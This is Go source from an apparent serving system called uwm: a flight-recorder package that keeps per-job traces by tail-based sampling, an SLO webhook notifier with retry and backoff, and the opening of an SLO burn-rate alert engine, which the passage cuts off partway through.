// Package flightrec is the serving path's flight recorder: a per-job
// trace scope layer with tail-based sampling.
//
// The paper's machines compute *in* timing behavior, so when a served
// job returns a wrong answer the only real evidence is the precise
// sequence of timed reads, speculative windows and calibrations that
// produced it — evidence a global -trace-out stream buries across all
// workers and jobs. Here every engine job runs against its own bounded
// event buffer (a Capture), fed from its worker machine's trace stream
// through a per-worker Tap. When the job finishes, the Recorder decides
// whether the capture is worth keeping:
//
//   - always, when the job errored, its redundant attempts disagreed,
//     any attempt was retried, the worker's health monitor holds a
//     latched drift verdict, or the latency sits above a configurable
//     quantile of the job type's history (tail-based sampling: the
//     decision uses information that only exists after the job ran);
//   - otherwise probabilistically, hashed from the job id so the head
//     sampling decision is deterministic and replayable.
//
// Kept traces live in a bounded LRU — except error traces, which are
// pinned in their own ring of the last K errors so a burst of healthy
// traffic can never evict the evidence of the most recent failures.
// Captures are seeded with the health monitor's drift-state checkpoint
// (health.Monitor.StateEvent), which makes each recording
// self-contained: replaying it offline reproduces the live drift
// verdict even though it holds only one job's reads.
package flightrec

import (
	"encoding/json"
	"fmt"
	"hash/fnv"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"uwm/internal/health"
	"uwm/internal/metrics"
	"uwm/internal/trace"
)

// Sampling decision reasons. The first six keep a trace; ReasonSampledOut
// is the only dropping decision.
const (
	ReasonError        = "error"        // job finished failed or canceled
	ReasonDisagreement = "disagreement" // redundant attempts produced conflicting results
	ReasonRetry        = "retry"        // at least one attempt errored before a result
	ReasonDrift        = "drift"        // the worker's drift verdict was latched at completion
	ReasonSlow         = "slow"         // latency above the type's keep quantile
	ReasonHead         = "head"         // won the probabilistic head sample
	ReasonSampledOut   = "sampled-out"  // healthy, fast, and lost the head sample
)

// keepReasons lists every reason in decision-priority order (dropping
// reason excluded); the metrics pre-registration iterates it.
var keepReasons = []string{
	ReasonError, ReasonDisagreement, ReasonRetry, ReasonDrift, ReasonSlow, ReasonHead,
}

// Metric series exported by the recorder.
const (
	MetricDecisions     = "uwm_flightrec_decisions_total"
	MetricKeptTraces    = "uwm_flightrec_kept_traces"
	MetricPinnedErrors  = "uwm_flightrec_pinned_errors"
	MetricCapacity      = "uwm_flightrec_capacity"
	MetricEvictions     = "uwm_flightrec_evictions_total"
	MetricDroppedEvents = "uwm_trace_dropped_events_total"
	MetricPostmortems   = "uwm_flightrec_postmortem_dumps_total"
	MetricAlertPinned   = "uwm_flightrec_alert_pinned_traces"
)

// Config tunes a Recorder. The zero value selects the defaults below.
type Config struct {
	// MaxKept bounds the LRU of kept non-error traces (default 64).
	MaxKept int
	// ErrorRing bounds the pinned ring of error traces. Error traces are
	// only ever evicted by newer errors, never by healthy traffic.
	// Default 16.
	ErrorRing int
	// MaxEventsPerTrace bounds each job's capture buffer; past it the
	// oldest events are overwritten (the newest tail is the interesting
	// part when a gate misfires) and the overwrites are counted as
	// dropped events. Default 4096; negative means unlimited.
	MaxEventsPerTrace int
	// HeadRate is the probability a healthy trace is kept, decided by
	// hashing the job id so the choice is deterministic. 0 (the zero
	// value) keeps no healthy traces; 1 keeps everything.
	HeadRate float64
	// LatencyQuantile marks a job "slow" — and its trace kept — when its
	// latency reaches this quantile of the job type's history. Default
	// 0.99; negative disables the rule.
	LatencyQuantile float64
	// LatencyMinSamples is how much per-type history the slow rule needs
	// before it fires (a quantile of three samples is noise). Default 32.
	LatencyMinSamples int
	// PostmortemDir, when set, is where Postmortem() and panicking
	// workers dump the kept traces.
	PostmortemDir string
	// Metrics, when non-nil, receives the recorder's instruments.
	Metrics *metrics.Registry
}

func (c Config) withDefaults() Config {
	if c.MaxKept <= 0 {
		c.MaxKept = 64
	}
	if c.ErrorRing <= 0 {
		c.ErrorRing = 16
	}
	switch {
	case c.MaxEventsPerTrace == 0:
		c.MaxEventsPerTrace = 4096
	case c.MaxEventsPerTrace < 0:
		c.MaxEventsPerTrace = 0 // trace.NewRecorder: unlimited
	}
	if c.LatencyQuantile == 0 {
		c.LatencyQuantile = 0.99
	}
	if c.LatencyMinSamples <= 0 {
		c.LatencyMinSamples = 32
	}
	return c
}

// Meta identifies the job a capture records.
type Meta struct {
	JobID     string
	RequestID string
	Type      string
}

// Capture is one job's private event buffer. It is owned by a single
// worker goroutine between Begin and Finish and must not be shared.
type Capture struct {
	meta Meta
	seed []trace.Event
	rec  *trace.Recorder
}

// Emit implements trace.Sink: events land in the capture's bounded
// ring buffer.
func (c *Capture) Emit(e trace.Event) { c.rec.Record(e) }

// Seed records an event ahead of the ring buffer, exempt from
// truncation. The health checkpoint goes here: a long job may overflow
// the ring and lose its oldest reads, but the checkpoint that makes the
// recording replayable must never be the thing overwritten.
func (c *Capture) Seed(e trace.Event) { c.seed = append(c.seed, e) }

// Tap is the per-worker switchpoint between a machine's trace stream
// and the current job's capture. The owning worker goroutine calls Set
// around each job; the atomic pointer makes concurrent Enabled checks
// (from trace.Tee fan-outs) safe.
type Tap struct {
	cur atomic.Pointer[Capture]
}

// NewTap returns an empty tap.
func NewTap() *Tap { return &Tap{} }

// Set installs (or, with nil, removes) the active capture.
func (t *Tap) Set(c *Capture) {
	if t != nil {
		t.cur.Store(c)
	}
}

// Emit implements trace.Sink, forwarding to the active capture.
func (t *Tap) Emit(e trace.Event) {
	if c := t.cur.Load(); c != nil {
		c.rec.Record(e)
	}
}

// Enabled reports whether a capture is active, so machines keep their
// zero-cost elision when no job is being recorded and no other sink is
// live.
func (t *Tap) Enabled() bool { return t != nil && t.cur.Load() != nil }

// Outcome is what the engine knows about a job only after it ran — the
// input to the tail-based sampling decision.
type Outcome struct {
	// Status is the job's terminal state ("done", "failed", "canceled").
	Status string
	// Error is the failure message for non-done jobs.
	Error string
	// Retries counts attempts that errored before a result.
	Retries int
	// Disagreement reports that redundant attempts produced more than
	// one distinct result.
	Disagreement bool
	// Drifting reports the worker's latched drift verdict at completion.
	Drifting bool
	// Latency is the job's execution wall time.
	Latency time.Duration
	// Verdict, when non-nil, is the worker monitor's drift verdict
	// snapshot at completion; it is stored on the index entry so a
	// replayed trace can be checked against the live verdict.
	Verdict *health.Verdict
}

// Decision is the sampling outcome for one finished capture.
type Decision struct {
	Kept   bool   `json:"kept"`
	Reason string `json:"reason"`
	// Pinned marks the trace as living in the error ring.
	Pinned bool `json:"pinned,omitempty"`
}

// Entry is one line of the recorder's index: the job's identity, its
// sampling decision, and enough of the outcome to triage without
// downloading the trace.
type Entry struct {
	Seq       uint64 `json:"seq"`
	ID        string `json:"id"`
	RequestID string `json:"request_id,omitempty"`
	Type      string `json:"type"`
	Status    string `json:"status"`
	Error     string `json:"error,omitempty"`
	Kept      bool   `json:"kept"`
	Reason    string `json:"reason"`
	Pinned    bool   `json:"pinned,omitempty"`
	// AlertPinned marks a trace currently held against eviction by a
	// firing SLO alert (reported on index listings).
	AlertPinned    bool            `json:"alert_pinned,omitempty"`
	Events         int             `json:"events"`
	DroppedEvents  int             `json:"dropped_events,omitempty"`
	Retries        int             `json:"retries,omitempty"`
	Disagreement   bool            `json:"disagreement,omitempty"`
	Drifting       bool            `json:"drifting,omitempty"`
	LatencySeconds float64         `json:"latency_seconds"`
	FinishedAt     time.Time       `json:"finished_at"`
	Verdict        *health.Verdict `json:"verdict,omitempty"`
}

// KeptTrace pairs an index entry with the full event recording.
type KeptTrace struct {
	Entry  Entry         `json:"entry"`
	Events []trace.Event `json:"-"`
}

// latencyBuckets spans sub-millisecond gate evaluations up to
// minute-scale hashes — the same range the engine's latency histogram
// covers.
var latencyBuckets = []float64{
	0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1,
	0.25, 0.5, 1, 2.5, 5, 10, 30, 60, 120,
}

// Recorder is the flight recorder. All methods are safe for concurrent
// use: workers Finish captures while HTTP handlers read the index,
// fetch traces and hold SSE subscriptions.
type Recorder struct {
	cfg Config

	mu      sync.Mutex
	seq     uint64
	kept    []*KeptTrace          // healthy LRU, oldest first
	errs    []*KeptTrace          // pinned error ring, oldest first
	byID    map[string]*KeptTrace // job id and request id → trace
	pins    map[string]int        // job id → alert pin refcount
	typeLat map[string]*metrics.Histogram
	subs    map[int]chan Entry
	subSeq  int

	// Instruments are pre-created at New so Finish never touches the
	// registry lock while holding mu (GaugeFunc collectors run under the
	// registry lock and take mu).
	decisionCtr map[string]*metrics.Counter
	evictKept   *metrics.Counter
	evictErrs   *metrics.Counter
	droppedCtr  *metrics.Counter
	postmortems *metrics.Counter
}

// New builds a Recorder and registers its instruments.
func New(cfg Config) *Recorder {
	r := &Recorder{
		cfg:     cfg.withDefaults(),
		byID:    make(map[string]*KeptTrace),
		pins:    make(map[string]int),
		typeLat: make(map[string]*metrics.Histogram),
		subs:    make(map[int]chan Entry),
	}
	reg := r.cfg.Metrics
	r.decisionCtr = make(map[string]*metrics.Counter, len(keepReasons)+1)
	for _, reason := range keepReasons {
		r.decisionCtr[reason] = reg.Counter(MetricDecisions,
			"tail-based sampling decisions by outcome",
			metrics.L("decision", "kept"), metrics.L("reason", reason))
	}
	r.decisionCtr[ReasonSampledOut] = reg.Counter(MetricDecisions,
		"tail-based sampling decisions by outcome",
		metrics.L("decision", "dropped"), metrics.L("reason", ReasonSampledOut))
	r.evictKept = reg.Counter(MetricEvictions,
		"kept traces evicted, by ring", metrics.L("ring", "kept"))
	r.evictErrs = reg.Counter(MetricEvictions,
		"kept traces evicted, by ring", metrics.L("ring", "errors"))
	r.droppedCtr = reg.Counter(MetricDroppedEvents,
		"events overwritten in bounded trace ring buffers")
	r.postmortems = reg.Counter(MetricPostmortems,
		"post-mortem dumps written (drain or worker panic)")
	reg.Gauge(MetricCapacity, "flight recorder capacity, by ring",
		metrics.L("ring", "kept")).Set(float64(r.cfg.MaxKept))
	reg.Gauge(MetricCapacity, "flight recorder capacity, by ring",
		metrics.L("ring", "errors")).Set(float64(r.cfg.ErrorRing))
	reg.GaugeFunc(MetricKeptTraces, "healthy traces currently retained in the LRU",
		func() float64 {
			r.mu.Lock()
			defer r.mu.Unlock()
			return float64(len(r.kept))
		})
	reg.GaugeFunc(MetricPinnedErrors, "error traces currently pinned in the ring",
		func() float64 {
			r.mu.Lock()
			defer r.mu.Unlock()
			return float64(len(r.errs))
		})
	reg.GaugeFunc(MetricAlertPinned, "traces currently pinned by firing SLO alerts",
		func() float64 {
			r.mu.Lock()
			defer r.mu.Unlock()
			return float64(len(r.pins))
		})
	return r
}

// Config returns the recorder's effective (default-filled)
// configuration.
func (r *Recorder) Config() Config { return r.cfg }

// Begin opens a capture for one job. The capture is not visible to
// readers until Finish decides its fate.
func (r *Recorder) Begin(meta Meta) *Capture {
	if r == nil {
		return nil
	}
	return &Capture{meta: meta, rec: trace.NewRecorder(r.cfg.MaxEventsPerTrace)}
}

// Finish applies the tail-based sampling policy to a finished capture
// and, when it is kept, publishes it to the index. Every decision —
// kept or dropped — is broadcast to live-tail subscribers.
func (r *Recorder) Finish(c *Capture, o Outcome) Decision {
	if r == nil || c == nil {
		return Decision{}
	}
	events := make([]trace.Event, 0, len(c.seed)+len(c.rec.Events()))
	events = append(events, c.seed...)
	events = append(events, c.rec.Events()...)
	latSec := o.Latency.Seconds()

	r.mu.Lock()
	d := r.decideLocked(c.meta, o, latSec)
	r.observeLatencyLocked(c.meta.Type, latSec)
	r.seq++
	entry := Entry{
		Seq:            r.seq,
		ID:             c.meta.JobID,
		RequestID:      c.meta.RequestID,
		Type:           c.meta.Type,
		Status:         o.Status,
		Error:          o.Error,
		Kept:           d.Kept,
		Reason:         d.Reason,
		Pinned:         d.Pinned,
		Events:         len(events),
		DroppedEvents:  c.rec.Dropped(),
		Retries:        o.Retries,
		Disagreement:   o.Disagreement,
		Drifting:       o.Drifting,
		LatencySeconds: latSec,
		FinishedAt:     time.Now().UTC(),
		Verdict:        o.Verdict,
	}
	r.decisionCtr[d.Reason].Inc()
	r.droppedCtr.Add(uint64(c.rec.Dropped()))
	if d.Kept {
		r.insertLocked(&KeptTrace{Entry: entry, Events: events})
	}
	for _, ch := range r.subs {
		select {
		case ch <- entry:
		default: // a slow tail client misses a decision rather than stalling workers
		}
	}
	r.mu.Unlock()
	return d
}

// decideLocked runs the sampling policy in priority order.
func (r *Recorder) decideLocked(meta Meta, o Outcome, latSec float64) Decision {
	switch {
	case o.Status != "" && o.Status != "done":
		return Decision{Kept: true, Reason: ReasonError, Pinned: true}
	case o.Disagreement:
		return Decision{Kept: true, Reason: ReasonDisagreement}
	case o.Retries > 0:
		return Decision{Kept: true, Reason: ReasonRetry}
	case o.Drifting:
		return Decision{Kept: true, Reason: ReasonDrift}
	case r.slowLocked(meta.Type, latSec):
		return Decision{Kept: true, Reason: ReasonSlow}
	case headKeep(meta.JobID, r.cfg.HeadRate):
		return Decision{Kept: true, Reason: ReasonHead}
	default:
		return Decision{Kept: false, Reason: ReasonSampledOut}
	}
}

// slowLocked reports whether latSec sits above the keep quantile of the
// job type's latency history. The quantile estimate is rounded up to
// its bucket edge first: an interpolated p99 of a uniform-latency
// stream lands fractionally *below* the stream's own value, and without
// the round-up every healthy job of such a type would flag as slow.
func (r *Recorder) slowLocked(jobType string, latSec float64) bool {
	if r.cfg.LatencyQuantile < 0 {
		return false
	}
	h := r.typeLat[jobType]
	if h == nil || h.Count() < uint64(r.cfg.LatencyMinSamples) {
		return false
	}
	return latSec > bucketCeil(h.Quantile(r.cfg.LatencyQuantile))
}

// bucketCeil rounds a latency up to the bucket edge containing it — the
// finest distinction the bucketed history can actually support.
func bucketCeil(x float64) float64 {
	for _, b := range latencyBuckets {
		if x <= b {
			return b
		}
	}
	return latencyBuckets[len(latencyBuckets)-1]
}

// observeLatencyLocked folds the job's latency into its type's history
// after the decision, so a job is judged against its predecessors, not
// itself.
func (r *Recorder) observeLatencyLocked(jobType string, latSec float64) {
	h := r.typeLat[jobType]
	if h == nil {
		h = metrics.NewHistogram(latencyBuckets)
		r.typeLat[jobType] = h
	}
	h.Observe(latSec)
}

// headKeep hashes the job id into [0,1) and keeps it under rate — a
// deterministic coin so the same submission stream samples identically
// on every run.
func headKeep(id string, rate float64) bool {
	if rate >= 1 {
		return true
	}
	if rate <= 0 {
		return false
	}
	h := fnv.New64a()
	h.Write([]byte(id))
	return float64(h.Sum64()>>11)/(1<<53) < rate
}

// insertLocked files a kept trace into its ring and indexes it by job
// and request id. Rings evict their oldest *unpinned* trace: a trace a
// firing alert pinned is the evidence the alert names, so the ring is
// allowed to run over capacity until the alert resolves rather than
// discard it.
func (r *Recorder) insertLocked(kt *KeptTrace) {
	if kt.Entry.Pinned {
		r.errs = append(r.errs, kt)
		if len(r.errs) > r.cfg.ErrorRing {
			if r.evictOldestUnpinnedLocked(&r.errs) {
				r.evictErrs.Inc()
			}
		}
	} else {
		r.kept = append(r.kept, kt)
		if len(r.kept) > r.cfg.MaxKept {
			if r.evictOldestUnpinnedLocked(&r.kept) {
				r.evictKept.Inc()
			}
		}
	}
	r.byID[kt.Entry.ID] = kt
	if kt.Entry.RequestID != "" {
		r.byID[kt.Entry.RequestID] = kt
	}
}

// evictOldestUnpinnedLocked removes the oldest trace in ring without an
// alert pin; it reports false — and leaves the ring over capacity —
// when every resident trace is pinned.
func (r *Recorder) evictOldestUnpinnedLocked(ring *[]*KeptTrace) bool {
	for i, kt := range *ring {
		if r.pins[kt.Entry.ID] > 0 {
			continue
		}
		r.dropLocked(kt)
		*ring = append((*ring)[:i], (*ring)[i+1:]...)
		return true
	}
	return false
}

// Pin holds the kept trace for a job or request id against eviction —
// the flight recorder's side of a firing SLO alert. Pins are
// refcounted (two alerts naming the same trace both hold it) and
// keyed by the canonical job id, so Pin and Unpin may use job and
// request ids interchangeably. It reports whether a kept trace existed
// to pin.
func (r *Recorder) Pin(id string) bool {
	if r == nil {
		return false
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	kt, ok := r.byID[id]
	if !ok {
		return false
	}
	r.pins[kt.Entry.ID]++
	return true
}

// Unpin releases one Pin reference; at zero the trace becomes evictable
// again (it is not removed eagerly — normal ring pressure reclaims it).
func (r *Recorder) Unpin(id string) {
	if r == nil {
		return
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	key := id
	if kt, ok := r.byID[id]; ok {
		key = kt.Entry.ID
	}
	if n := r.pins[key]; n > 1 {
		r.pins[key] = n - 1
	} else if n == 1 {
		delete(r.pins, key)
	}
}

// AlertPins reports how many traces are currently alert-pinned.
func (r *Recorder) AlertPins() int {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.pins)
}

// dropLocked removes an evicted trace's id mappings (unless a newer
// trace already claimed the key).
func (r *Recorder) dropLocked(kt *KeptTrace) {
	if r.byID[kt.Entry.ID] == kt {
		delete(r.byID, kt.Entry.ID)
	}
	if rid := kt.Entry.RequestID; rid != "" && r.byID[rid] == kt {
		delete(r.byID, rid)
	}
}

// Get returns the kept trace for a job or request id. The returned
// trace is immutable; callers may read it without locking.
func (r *Recorder) Get(id string) (*KeptTrace, bool) {
	if r == nil {
		return nil, false
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	kt, ok := r.byID[id]
	return kt, ok
}

// Index returns every kept trace's entry, newest first. Pinned error
// traces and LRU traces are merged into one timeline.
func (r *Recorder) Index() []Entry {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	out := make([]Entry, 0, len(r.kept)+len(r.errs))
	for _, kt := range r.kept {
		e := kt.Entry
		e.AlertPinned = r.pins[e.ID] > 0
		out = append(out, e)
	}
	for _, kt := range r.errs {
		e := kt.Entry
		e.AlertPinned = r.pins[e.ID] > 0
		out = append(out, e)
	}
	r.mu.Unlock()
	sort.Slice(out, func(i, j int) bool { return out[i].Seq > out[j].Seq })
	return out
}

// Subscribe attaches a live-tail listener: every Finish decision is
// delivered (best-effort; a full buffer drops, never blocks). The
// cancel function detaches and closes the channel; it is safe to call
// twice.
func (r *Recorder) Subscribe() (<-chan Entry, func()) {
	ch := make(chan Entry, 16)
	r.mu.Lock()
	r.subSeq++
	id := r.subSeq
	r.subs[id] = ch
	r.mu.Unlock()
	cancel := func() {
		r.mu.Lock()
		if c, ok := r.subs[id]; ok {
			delete(r.subs, id)
			close(c)
		}
		r.mu.Unlock()
	}
	return ch, cancel
}

// Subscribers reports how many live-tail listeners are attached.
func (r *Recorder) Subscribers() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.subs)
}

// Dump writes every kept trace to dir — one <job-id>.jsonl per trace,
// in the exact format a -trace-out run produces, plus an index.json of
// the entries — and returns how many traces it wrote. This is the
// post-mortem artifact a draining server or a panicking worker leaves
// behind.
func (r *Recorder) Dump(dir string) (int, error) {
	if r == nil {
		return 0, nil
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return 0, fmt.Errorf("flightrec: %w", err)
	}
	r.mu.Lock()
	traces := make([]*KeptTrace, 0, len(r.kept)+len(r.errs))
	traces = append(traces, r.kept...)
	traces = append(traces, r.errs...)
	r.mu.Unlock()

	entries := make([]Entry, 0, len(traces))
	for _, kt := range traces {
		f, err := os.Create(filepath.Join(dir, kt.Entry.ID+".jsonl"))
		if err != nil {
			return len(entries), fmt.Errorf("flightrec: %w", err)
		}
		werr := trace.EncodeJSONL(f, kt.Events)
		if cerr := f.Close(); werr == nil {
			werr = cerr
		}
		if werr != nil {
			return len(entries), fmt.Errorf("flightrec: dumping %s: %w", kt.Entry.ID, werr)
		}
		entries = append(entries, kt.Entry)
	}
	sort.Slice(entries, func(i, j int) bool { return entries[i].Seq > entries[j].Seq })
	b, err := json.MarshalIndent(entries, "", "  ")
	if err != nil {
		return len(entries), fmt.Errorf("flightrec: %w", err)
	}
	if err := os.WriteFile(filepath.Join(dir, "index.json"), append(b, '\n'), 0o644); err != nil {
		return len(entries), fmt.Errorf("flightrec: %w", err)
	}
	r.postmortems.Inc()
	return len(entries), nil
}

// Postmortem dumps the recorder to the configured PostmortemDir — the
// reaction to a worker panic. Without a directory it is a no-op; the
// error, if any, is returned for the caller to log (a failing dump must
// not take the pool down with it).
func (r *Recorder) Postmortem() (int, error) {
	if r == nil || r.cfg.PostmortemDir == "" {
		return 0, nil
	}
	return r.Dump(r.cfg.PostmortemDir)
}
