package slo

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"sync"
	"time"

	"uwm/internal/evlog"
)

// NotifierConfig tunes a webhook Notifier.
type NotifierConfig struct {
	// URL receives one POST per alert transition, body = the
	// Transition JSON, Content-Type application/json.
	URL string
	// Client is the HTTP client (default: 10s-timeout client).
	Client *http.Client
	// InitialBackoff/MaxBackoff bound the exponential retry schedule
	// (defaults 250ms / 30s); MaxAttempts bounds deliveries per
	// transition (default 5) before it is dropped and logged.
	InitialBackoff time.Duration
	MaxBackoff     time.Duration
	MaxAttempts    int
	// Log receives delivery-failure diagnostics.
	Log *evlog.Logger
}

func (c NotifierConfig) withDefaults() NotifierConfig {
	if c.Client == nil {
		c.Client = &http.Client{Timeout: 10 * time.Second}
	}
	if c.InitialBackoff <= 0 {
		c.InitialBackoff = 250 * time.Millisecond
	}
	if c.MaxBackoff <= 0 {
		c.MaxBackoff = 30 * time.Second
	}
	if c.MaxAttempts <= 0 {
		c.MaxAttempts = 5
	}
	return c
}

// Notifier forwards alert transitions to a webhook with retry and
// exponential backoff. Deliveries are serialized in transition order;
// a down endpoint delays, never reorders. Close drains nothing — the
// in-flight delivery finishes its attempt, queued transitions are
// dropped (the alert state itself lives in the engine, the webhook is
// a best-effort mirror).
type Notifier struct {
	cfg    NotifierConfig
	eng    *Engine
	subID  int
	ctx    context.Context
	cancel context.CancelFunc
	wg     sync.WaitGroup
}

// NewNotifier subscribes to the engine and starts the delivery loop.
func NewNotifier(eng *Engine, cfg NotifierConfig) *Notifier {
	cfg = cfg.withDefaults()
	ctx, cancel := context.WithCancel(context.Background())
	n := &Notifier{cfg: cfg, eng: eng, ctx: ctx, cancel: cancel}
	id, ch := eng.Subscribe()
	n.subID = id
	n.wg.Add(1)
	go n.run(ch)
	return n
}

func (n *Notifier) run(ch <-chan Transition) {
	defer n.wg.Done()
	for {
		select {
		case <-n.ctx.Done():
			return
		case tr, ok := <-ch:
			if !ok {
				return
			}
			n.deliver(tr)
		}
	}
}

// deliver POSTs one transition, retrying with exponential backoff.
func (n *Notifier) deliver(tr Transition) {
	body, err := json.Marshal(tr)
	if err != nil {
		return
	}
	backoff := n.cfg.InitialBackoff
	for attempt := 1; ; attempt++ {
		err := n.post(body)
		if err == nil {
			return
		}
		if attempt >= n.cfg.MaxAttempts {
			n.cfg.Log.Emit(evlog.Record{
				Level: evlog.Warn, Component: Component, Event: "webhook.drop",
				Msg: fmt.Sprintf("dropping %s/%s %s after %d attempts: %v",
					tr.SLO, tr.Policy, tr.State, attempt, err),
			})
			return
		}
		select {
		case <-n.ctx.Done():
			return
		case <-time.After(backoff):
		}
		backoff *= 2
		if backoff > n.cfg.MaxBackoff {
			backoff = n.cfg.MaxBackoff
		}
	}
}

func (n *Notifier) post(body []byte) error {
	req, err := http.NewRequestWithContext(n.ctx, http.MethodPost, n.cfg.URL, bytes.NewReader(body))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/json")
	resp, err := n.cfg.Client.Do(req)
	if err != nil {
		return err
	}
	resp.Body.Close()
	if resp.StatusCode >= 300 {
		return fmt.Errorf("webhook: status %d", resp.StatusCode)
	}
	return nil
}

// Close unsubscribes and stops the delivery loop.
func (n *Notifier) Close() {
	n.cancel()
	n.eng.Unsubscribe(n.subID)
	n.wg.Wait()
}
