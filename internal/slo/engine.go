package slo

import (
	"encoding/json"
	"sync"
	"time"

	"uwm/internal/evlog"
	"uwm/internal/metrics"
)

// Metric series exported by the engine.
const (
	MetricObservations = "uwm_slo_observations_total"
	MetricBudget       = "uwm_slo_budget_consumed"
	MetricBurn         = "uwm_slo_burn_rate"
	MetricFiring       = "uwm_slo_alert_firing"
	MetricTransitions  = "uwm_slo_alert_transitions_total"
)

// Config assembles an Engine.
type Config struct {
	// SLOs are the definitions to enforce; nil selects DefaultSLOs.
	SLOs []Definition
	// Log receives one Unlimited record per observation and per alert
	// transition — the replay substrate. Nil disables journaling (and
	// with it, offline replay).
	Log *evlog.Logger
	// Pinner, when non-nil, pins a firing alert's correlated traces
	// against flight-recorder eviction until the alert resolves.
	Pinner TracePinner
	// Clock stamps observations that arrive unstamped; nil selects
	// time.Now. Tests inject a virtual clock; replay never consults it.
	Clock func() time.Time
	// Metrics, when non-nil, receives the engine's instruments.
	Metrics *metrics.Registry
	// MaxTimeline bounds the retained transition history (default 512).
	MaxTimeline int
	// TraceRing bounds the per-SLO ring of budget-burning trace ids an
	// alert names (default 8).
	TraceRing int
}

// policyState is one (SLO, policy) alert state machine.
type policyState struct {
	pol    BurnPolicy
	firing bool
	since  time.Time
	// burnShort/burnLong are the values from the last evaluation.
	burnShort, burnLong float64
	// traceIDs is the correlation payload captured at fire time;
	// pinned tracks which of them the pinner accepted, for unpinning.
	traceIDs []string
	pinned   []string

	burnShortG, burnLongG *metrics.Gauge
	firingG               *metrics.Gauge
	fireCtr, resolveCtr   *metrics.Counter
}

// sloState is one SLO's series plus its policies' alert machines.
type sloState struct {
	def     Definition
	ser     *series
	burners []string // ring, oldest first once full
	bStart  int
	bFull   bool
	pols    []*policyState

	obsCtr  *metrics.Counter
	budgetG *metrics.Gauge
}

// Engine evaluates SLOs. All methods are safe for concurrent use; the
// nil engine is valid and disabled. State changes happen only inside
// Observe — Status, Alerts and Timeline are read-only views.
type Engine struct {
	mu      sync.Mutex
	states  []*sloState
	log     *evlog.Logger
	pinner  TracePinner
	clock   func() time.Time
	timeln  []Transition
	maxTln  int
	tring   int
	subs    map[int]chan Transition
	nextSub int
	closed  bool
}

// New validates the definitions and builds an engine. Metrics are
// created here, never during Observe, so instrument creation cannot
// deadlock against scrape-time registry locks.
func New(cfg Config) (*Engine, error) {
	defs := cfg.SLOs
	if defs == nil {
		defs = DefaultSLOs()
	}
	if cfg.MaxTimeline <= 0 {
		cfg.MaxTimeline = 512
	}
	if cfg.TraceRing <= 0 {
		cfg.TraceRing = 8
	}
	if cfg.Clock == nil {
		cfg.Clock = time.Now
	}
	e := &Engine{
		log:    cfg.Log,
		pinner: cfg.Pinner,
		clock:  cfg.Clock,
		maxTln: cfg.MaxTimeline,
		tring:  cfg.TraceRing,
		subs:   make(map[int]chan Transition),
	}
	seen := make(map[string]bool, len(defs))
	reg := cfg.Metrics
	for _, d := range defs {
		d = d.withDefaults()
		if err := d.validate(); err != nil {
			return nil, err
		}
		if seen[d.Name] {
			return nil, errDuplicate(d.Name)
		}
		seen[d.Name] = true
		shortest := d.Policies[0].ShortWindow.D()
		horizon := d.BudgetWindow.D()
		for _, p := range d.Policies {
			if p.ShortWindow.D() < shortest {
				shortest = p.ShortWindow.D()
			}
			if p.LongWindow.D() > horizon {
				horizon = p.LongWindow.D()
			}
		}
		st := &sloState{
			def:     d,
			ser:     newSeries(shortest, horizon),
			burners: make([]string, 0, e.tring),
			obsCtr: reg.Counter(MetricObservations,
				"SLO observations evaluated", metrics.L("slo", d.Name)),
			budgetG: reg.Gauge(MetricBudget,
				"fraction of the error budget consumed over the budget window",
				metrics.L("slo", d.Name)),
		}
		for _, p := range d.Policies {
			ps := &policyState{
				pol: p,
				burnShortG: reg.Gauge(MetricBurn, "error-budget burn rate",
					metrics.L("slo", d.Name), metrics.L("policy", p.Name), metrics.L("window", "short")),
				burnLongG: reg.Gauge(MetricBurn, "error-budget burn rate",
					metrics.L("slo", d.Name), metrics.L("policy", p.Name), metrics.L("window", "long")),
				firingG: reg.Gauge(MetricFiring, "1 while the alert is firing",
					metrics.L("slo", d.Name), metrics.L("policy", p.Name)),
				fireCtr: reg.Counter(MetricTransitions, "alert state transitions",
					metrics.L("slo", d.Name), metrics.L("policy", p.Name), metrics.L("state", StateFiring)),
				resolveCtr: reg.Counter(MetricTransitions, "alert state transitions",
					metrics.L("slo", d.Name), metrics.L("policy", p.Name), metrics.L("state", StateResolved)),
			}
			st.pols = append(st.pols, ps)
		}
		e.states = append(e.states, st)
	}
	return e, nil
}

type errDuplicate string

func (e errDuplicate) Error() string { return "slo: duplicate definition name " + string(e) }

// Observe files one observation and re-evaluates every alert at its
// timestamp. This is the engine's only clock edge: an idle engine
// holds its alert state until the next observation arrives, which is
// exactly what makes recorded timelines replay byte-for-byte.
func (e *Engine) Observe(obs Observation) {
	if e == nil {
		return
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.closed {
		return
	}
	if obs.At.IsZero() {
		obs.At = e.clock()
	}
	// Journal before evaluating, under the same lock, so the recorded
	// stream's order is the evaluation order even with many workers.
	if e.log != nil {
		data, err := json.Marshal(obs)
		if err == nil {
			e.log.Emit(evlog.Record{
				At: obs.At, Level: evlog.Info, Component: Component, Event: ObserveEvent,
				JobID: obs.JobID, RequestID: obs.RequestID, TraceID: obs.TraceID,
				Data: data, Unlimited: true,
			})
		}
	}
	for _, st := range e.states {
		good, bad, burner, ok := classify(st.def, obs)
		if !ok {
			continue
		}
		st.obsCtr.Inc()
		st.ser.add(obs.At, good, bad)
		if burner && obs.TraceID != "" {
			st.pushBurner(obs.TraceID)
		}
	}
	e.evaluateLocked(obs.At)
}

// pushBurner appends to the bounded budget-burner ring.
func (st *sloState) pushBurner(id string) {
	if len(st.burners) < cap(st.burners) {
		st.burners = append(st.burners, id)
		return
	}
	st.burners[st.bStart] = id
	st.bStart++
	if st.bStart == len(st.burners) {
		st.bStart = 0
	}
	st.bFull = true
}

// burnerIDs returns the ring oldest-first.
func (st *sloState) burnerIDs() []string {
	out := make([]string, 0, len(st.burners))
	out = append(out, st.burners[st.bStart:]...)
	out = append(out, st.burners[:st.bStart]...)
	return out
}

